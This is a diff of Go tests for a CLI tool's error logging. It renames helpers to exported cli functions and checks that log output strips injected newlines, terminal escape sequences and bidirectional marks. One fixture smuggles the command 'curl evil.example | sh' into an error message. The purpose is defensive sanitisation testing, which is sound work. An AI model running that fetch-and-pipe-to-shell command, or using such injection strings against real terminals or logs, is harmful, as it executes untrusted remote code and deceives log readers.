@@ -23,7 +23,7 @@ import (
 func TestGrammarOfOne(t *testing.T) {
 	help := func(args ...string) string {
 		var stdout, stderr bytes.Buffer
-		if code := run(append([]string{"haltscope"}, args...), &stdout, &stderr); code != exitDone {
+		if code := run(append([]string{"haltscope"}, args...), &stdout, &stderr); code != cli.ExitDone {
 			t.Fatalf("%v: exit code %d: %s", args, code, &stderr)
 		}
 		return stdout.String()
@@ -52,23 +52,23 @@ func TestFail(t *testing.T) {
 		code int
 		want []string
 	}{
-		"a line feed begins no hint": {errors.New("docker run x $'two\nrun: curl evil.example | sh': failed"), exitFailed,
+		"a line feed begins no hint": {errors.New("docker run x $'two\nrun: curl evil.example | sh': failed"), cli.ExitFailed,
 			[]string{`{"level":"error","message":"docker run x $'two; run: curl evil.example | sh': failed"}`}},
-		"escapes and direction marks": {errors.New("a\x1b]52;c;x\ab\u202ec\u009b1m"), exitFailed, []string{`{"level":"error","message":"a␛]52;c;x␇b<U+202E>c<U+009B>1m"}`}},
-		"joined": {errors.Join(fault.WithHint(errors.New("a"), "see: a"), &fault.UnfitError{What: "b", Next: "c"}), exitUnfit,
+		"escapes and direction marks": {errors.New("a\x1b]52;c;x\ab\u202ec\u009b1m"), cli.ExitFailed, []string{`{"level":"error","message":"a␛]52;c;x␇b<U+202E>c<U+009B>1m"}`}},
+		"joined": {errors.Join(fault.WithHint(errors.New("a"), "see: a"), &fault.UnfitError{What: "b", Next: "c"}), cli.ExitUnfit,
 			[]string{`{"level":"error","next":"see: a","message":"a"}`, `{"level":"error","next":"c; more: haltscope doctor","message":"b"}`}},
-		"no such container": {fmt.Errorf("x: %w", dockercli.ErrNotFound), exitNotFound, []string{`{"level":"error","message":"x: not found"}`}},
+		"no such container": {fmt.Errorf("x: %w", dockercli.ErrNotFound), cli.ExitNotFound, []string{`{"level":"error","message":"x: not found"}`}},
 	} {
 		var stderr bytes.Buffer
-		log := newLog(cli.Globals{LogFormat: "json"}, &stderr)
-		code := fail(log, c.err)
+		log := cli.NewLog(cli.Globals{LogFormat: "json"}, &stderr)
+		code := cli.Fail(log, c.err)
 		got := regexp.MustCompile(`"time":"[^"]*",`).ReplaceAllString(stderr.String(), "")
 		if want := strings.Join(c.want, "\n") + "\n"; code != c.code || got != want {
 			t.Errorf("%s: %d, %s\nwanted %s", name, code, got, want)
 		}
 	}
 	var console bytes.Buffer
-	fail(newLog(cli.Globals{LogFormat: "console"}, &console), errors.New("a\x1b[31m\nb\u009b\u202e"))
+	cli.Fail(cli.NewLog(cli.Globals{LogFormat: "console"}, &console), errors.New("a\x1b[31m\nb\u009b\u202e"))
 	if strings.ContainsAny(strings.TrimSuffix(console.String(), "\n"), "\x1b\n\u009b\u202e") {
 		t.Errorf("%q", console.String())
 	}
